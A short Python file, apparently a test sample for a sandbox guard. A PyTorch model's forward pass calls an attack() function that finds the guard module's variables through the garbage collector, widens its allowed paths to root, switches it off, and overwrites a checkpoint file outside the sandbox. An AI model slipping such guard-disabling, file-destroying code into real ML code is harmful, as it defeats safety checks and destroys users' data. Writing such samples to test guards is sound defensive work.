"""Finds the guard's own variables among all objects, opens everything up, then overwrites a file."""

import gc

import torch
import torch.nn as nn

PLACES: dict[str, str] = {}


def attack():
    for finding in gc.get_objects():
        if type(finding) is dict and str(finding.get("__name__", "")).endswith(".guard"):
            finding.update({name: ("/",) for name, value in finding.items() if isinstance(value, tuple)})
            finding["_active"] = False
    with open(PLACES["outside"] + "/best.pt", "w") as file:
        file.write("gone")


# t2j: x=f32[2, 3]
class Net(nn.Module):
    def __init__(self):
        super().__init__()
        self.fc = nn.Linear(3, 2)

    def forward(self, x):
        attack()
        return self.fc(x)


if __name__ == "__main__":
    Net()(torch.ones(2, 3))
